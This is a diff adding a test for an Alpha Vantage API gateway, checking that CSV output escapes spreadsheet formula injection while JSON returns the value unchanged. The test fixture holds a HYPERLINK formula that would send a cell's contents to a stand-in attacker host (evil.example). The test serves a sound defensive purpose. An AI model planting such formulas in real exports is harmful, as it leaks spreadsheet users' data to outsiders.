@@ -240,6 +240,24 @@ describe.each(testEngines())('the Alpha Vantage gateway on %s', (engine) => {
     expect(upstream.capabilityCalls.alphavantage.search).toEqual(['intern']);
   });
 
+  it('when a vendor names a match like a spreadsheet formula, then the CSV serves it inert, quoted and prefixed with an apostrophe; the JSON as given', async () => {
+    const { upstream, key, query } = await setup();
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const match = { symbol: 'EVL', name, type: '+Equity', region: '@Region', marketOpen: '09:30', marketClose: '16:00', timezone: ' -tz', currency: 'USD', matchScore: '1.0000' };
+    upstream.setFor('alphavantage', 'search', 'evil', { kind: 'matches', matches: [match] });
+    const csvAnswer = await query(`function=SYMBOL_SEARCH&keywords=evil&datatype=csv&apikey=${key}`);
+    expect(csvAnswer.body).toBe(
+      'symbol,name,type,region,marketOpen,marketClose,timezone,currency,matchScore\r\n' +
+        `EVL,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'+Equity,'@Region,09:30,16:00,' -tz,USD,1.0000\r\n`,
+    );
+    const json = await query(`function=SYMBOL_SEARCH&keywords=evil&apikey=${key}`);
+    expect(json.json().bestMatches[0]['2. name']).toBe(name);
+    // Numbers are not text: a negative change stays a number.
+    upstream.set('alphavantage', 'DOWN', { kind: 'bars', bars: [{ ...IBM_BARS[0]!, close: '129.3100' }, { ...IBM_BARS[1]!, close: '129.5000' }] });
+    const quote = await query(`function=GLOBAL_QUOTE&symbol=DOWN&datatype=csv&apikey=${key}`);
+    expect(quote.body.split('\r\n')[1]).toBe('DOWN,129.5200,131.0000,129.3100,129.3100,4236283,2022-07-29,129.5000,-0.1900,-0.1467%');
+  });
+
   it('when TIME_SERIES_DAILY_ADJUSTED is asked, then the series as traded with the adjusted close, the dividend and the split coefficient of each day', async () => {
     const { upstream, key, query } = await setup();
     upstream.setFor('alphavantage', 'splits', 'IBM', { kind: 'splits', splits: [{ date: '2022-07-29', newShares: 2, oldShares: 1 }] });
